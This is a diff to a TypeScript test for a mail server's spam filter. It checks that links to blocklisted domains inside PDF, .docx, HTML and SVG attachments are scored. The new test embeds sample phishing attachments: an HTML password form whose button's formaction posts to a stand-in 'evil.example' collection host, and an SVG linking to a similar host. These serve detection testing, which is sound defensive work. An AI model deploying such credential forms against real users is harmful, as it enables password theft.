@@ -2,7 +2,8 @@
 // serving a URI blocklist): a PDF whose link annotation points at a listed domain scores the zone's symbol
 // like a link in the body would, also when the annotation sits in a compressed object stream; a PDF
 // linking elsewhere adds nothing; the phishing link checks read these links too (a bare IP address
-// here). A .docx whose hyperlink, and an HTML file whose form, goes to a listed domain score it as well.
+// here). A .docx whose hyperlink, an HTML file whose form (or its button's formaction), and an SVG file
+// whose xlink:href goes to a listed domain score it as well.
 import assert from 'node:assert/strict';
 import { after, before, test } from 'node:test';
 import { deflateSync } from 'node:zlib';
@@ -72,4 +73,25 @@ test('an HTML file whose form posts to a listed domain', async () => {
   const symbols = await verdictSymbols(f, USER);
   assert.equal(symbols.DBL, 4, JSON.stringify(symbols));
   assert.ok('ATTACH_HTML_ACTIVE' in symbols, JSON.stringify(symbols));
+});
+
+test('an HTML file whose submit button posts elsewhere (formaction), an SVG file with an xlink:href link', async () => {
+  // The symbols of a message's verdict, delivered or refused (a credential form with a listed target may be).
+  const scored = async (raw: string) => {
+    const r = await deliver(raw);
+    if (r.ok) return verdictSymbols(f, USER);
+    const [row] = await f.app.store.spam.recentRefusals(1);
+    return Object.fromEntries(
+      (JSON.parse(row.symbols) as { name: string; score: number }[]).map((x) => [x.name, x.score]),
+    );
+  };
+  // HTML: the clicked button's formaction overrides the form's action. SVG 1.1: <a xlink:href> is a link.
+  const page =
+    '<form action="https://invoices.test/pay"><input type="password" name="pw">' +
+    '<button formaction="https://collect.evil.example/p">Sign in</button></form>';
+  assert.equal((await scored(withAttachment(Buffer.from(page), 'statement.html', 'text/html'))).DBL, 4, 'formaction');
+  const svg =
+    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">' +
+    '<a xlink:href="https://view.evil.example/doc"><text x="10" y="20">Open the document</text></a></svg>';
+  assert.equal((await scored(withAttachment(Buffer.from(svg), 'document.svg', 'image/svg+xml'))).DBL, 4, 'xlink:href');
 });
